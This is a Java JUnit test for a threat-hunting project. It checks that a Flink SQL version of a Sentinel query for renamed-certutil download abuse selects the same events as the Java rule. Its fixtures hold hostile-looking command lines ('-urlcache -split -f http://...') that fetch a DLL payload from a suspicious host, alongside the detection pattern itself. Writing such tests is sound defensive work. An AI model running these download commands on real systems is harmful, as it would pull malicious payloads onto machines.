package dev.bazahunt.sql;

import static dev.bazahunt.rules.BazaCallFileEvents.payloadWrite;
import static org.apache.flink.table.api.Expressions.$;
import static org.assertj.core.api.Assertions.assertThat;

import dev.bazahunt.rules.CertutilDownloadRule;
import dev.bazahunt.telemetry.DeviceFileEvent;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.apache.flink.runtime.testutils.MiniClusterResourceConfiguration;
import org.apache.flink.streaming.api.environment.StreamExecutionEnvironment;
import org.apache.flink.table.api.Table;
import org.apache.flink.table.api.bridge.java.StreamTableEnvironment;
import org.apache.flink.test.junit5.MiniClusterExtension;
import org.apache.flink.types.Row;
import org.apache.flink.util.CloseableIterator;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

/**
 * The Sentinel certutil query written in Flink SQL with the KQL functions must select exactly the rows
 * {@link CertutilDownloadRule} selects, on a real (mini) cluster with parallelism 2.
 */
class KqlFunctionsSqlTest {

    @RegisterExtension
    static final MiniClusterExtension MINI_CLUSTER = new MiniClusterExtension(
            new MiniClusterResourceConfiguration.Builder()
                    .setNumberTaskManagers(1)
                    .setNumberSlotsPerTaskManager(2)
                    .build());

    private static final String CERTUTIL_QUERY_IN_SQL = """
            SELECT ReportId
            FROM DeviceFileEvents
            WHERE KQL_NOT_EQUALS_CI(InitiatingProcessFileName, 'certutil.exe')
              AND KQL_NOT_EQUALS_CI(InitiatingProcessFileName, 'cmd.exe')
              AND KQL_HAS_ALL(InitiatingProcessCommandLine, '-urlcache', 'split', 'http')""";

    private static final String DOWNLOAD = "-urlcache -split -f http://pshe0pxe339.xyz/xe1t23ym0s.php "
            + "C:\\Users\\Public\\x8k2\\tmp1834.dll";

    private final List<DeviceFileEvent> events = new ArrayList<>();
    private StreamExecutionEnvironment env;
    private StreamTableEnvironment tableEnv;

    @BeforeEach
    void createTableEnvironment() {
        env = StreamExecutionEnvironment.getExecutionEnvironment();
        env.setParallelism(2);
        tableEnv = StreamTableEnvironment.create(env);
        KqlFunctions.registerAll(tableEnv);

        events.add(payloadWrite(1, "x8k2.exe", "x8k2.exe  " + DOWNLOAD));
        events.add(payloadWrite(2, "X8K2.EXE", "X8K2.EXE -URLCACHE -SPLIT -F HTTP://PSHE0PXE339.XYZ/XE1T23YM0S.PHP out.dll"));
        events.add(payloadWrite(3, null, "x8k2.exe  " + DOWNLOAD));
        events.add(payloadWrite(4, "certutil.exe", "certutil.exe " + DOWNLOAD));
        events.add(payloadWrite(5, "CertUtil.EXE", "certutil " + DOWNLOAD));
        events.add(payloadWrite(6, "cmd.exe", "cmd.exe /c x8k2.exe " + DOWNLOAD));
        events.add(payloadWrite(7, "x8k2.exe", "x8k2.exe -urlcache -split -f https://pshe0pxe339.xyz/xe1t23ym0s.php out.dll"));
        events.add(payloadWrite(8, "x8k2.exe", "x8k2.exe /urlcache /split /f http://pshe0pxe339.xyz/xe1t23ym0s.php out.dll"));
        events.add(payloadWrite(9, "x8k2.exe", null));
        events.add(payloadWrite(10, "x8k2.exe", "x8k2.exe -urlcache -splitter -f http://pshe0pxe339.xyz/a.php out.dll"));
        events.add(payloadWrite(11, "OneDrive.exe", "\"C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe\" /background"));
    }

    @Test
    void certutilQueryInSqlSelectsExactlyTheRowsOfTheJavaRule() throws Exception {
        DeviceFileEvent[] rows = events.toArray(DeviceFileEvent[]::new);
        Table fileEvents = tableEnv.fromDataStream(env.fromData(DeviceFileEvent.class, rows))
                .select($("reportId").as("ReportId"),
                        $("initiatingProcessFileName").as("InitiatingProcessFileName"),
                        $("initiatingProcessCommandLine").as("InitiatingProcessCommandLine"));
        tableEnv.createTemporaryView("DeviceFileEvents", fileEvents);

        Set<Long> selectedBySql = collectReportIds(tableEnv.sqlQuery(CERTUTIL_QUERY_IN_SQL));
        Set<Long> selectedByRule = events.stream()
                .filter(CertutilDownloadRule::matches)
                .map(event -> event.reportId)
                .collect(Collectors.toSet());

        assertThat(selectedByRule).containsExactlyInAnyOrder(1L, 2L, 3L);
        assertThat(selectedBySql).isEqualTo(selectedByRule);
    }

    @Test
    void sqlNullBehavesAsTheEmptyStringAndResultsAreNeverNull() throws Exception {
        Table results = tableEnv.sqlQuery("""
                SELECT
                  KQL_NOT_EQUALS_CI(CAST(NULL AS STRING), 'cmd.exe'),
                  KQL_EQUALS_CI(CAST(NULL AS STRING), ''),
                  KQL_HAS(CAST(NULL AS STRING), 'http'),
                  KQL_HAS_ANY(CAST(NULL AS STRING), 'http', 'split'),
                  KQL_CONTAINS(CAST(NULL AS STRING), ''),
                  KQL_HAS('x.exe -f https://a/b', 'http'),
                  KQL_HAS_ANY('x.exe -f https://a/b', 'http', 'HTTPS'),
                  KQL_CONTAINS('KustoExplorerQueryRun', 'explorer')""");

        assertThat(results.getResolvedSchema().getColumnDataTypes())
                .allSatisfy(type -> assertThat(type.getLogicalType().isNullable()).isFalse());
        try (CloseableIterator<Row> rows = results.execute().collect()) {
            Row row = rows.next();
            assertThat(List.of(row.getField(0), row.getField(1), row.getField(2), row.getField(3),
                            row.getField(4), row.getField(5), row.getField(6), row.getField(7)))
                    .containsExactly(true, true, false, false, true, false, true, true);
        }
    }

    private static Set<Long> collectReportIds(Table table) throws Exception {
        try (CloseableIterator<Row> rows = table.execute().collect()) {
            List<Long> ids = new ArrayList<>();
            rows.forEachRemaining(row -> ids.add((Long) row.getField("ReportId")));
            return Set.copyOf(ids);
        }
    }
}
